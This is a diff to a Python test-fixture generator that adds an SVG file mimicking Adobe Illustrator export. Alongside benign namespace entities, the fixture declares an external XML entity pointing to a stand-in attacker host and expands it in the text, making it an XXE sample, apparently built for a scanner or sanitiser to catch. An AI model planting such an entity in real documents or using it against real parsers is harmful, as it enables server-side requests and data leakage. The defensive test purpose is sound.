@@ -48,6 +48,20 @@ def svg() -> None:
   <text x="10" y="26" fill="white">Sekisho</text>
 </svg>
 """)
+    # Adobe Illustrator declares namespace URIs as entities; the external one is XXE
+    write("svg/illustrator-entities.svg", b"""<?xml version="1.0" encoding="utf-8"?>
+<!-- Generator: Adobe Illustrator 15.0.0, SVG Export Plug-In  -->
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
+\t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
+\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
+\t<!ENTITY xxe SYSTEM "http://attacker.example.invalid/collect">
+]>
+<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns="http://www.w3.org/2000/svg"
+\twidth="120" height="40">
+  <rect width="120" height="40" fill="#1f6f4a" i:knockout="Off"/>
+  <text x="10" y="26" fill="white">Sekisho&xxe;</text>
+</svg>
+""")
 
 
 def archive() -> None:
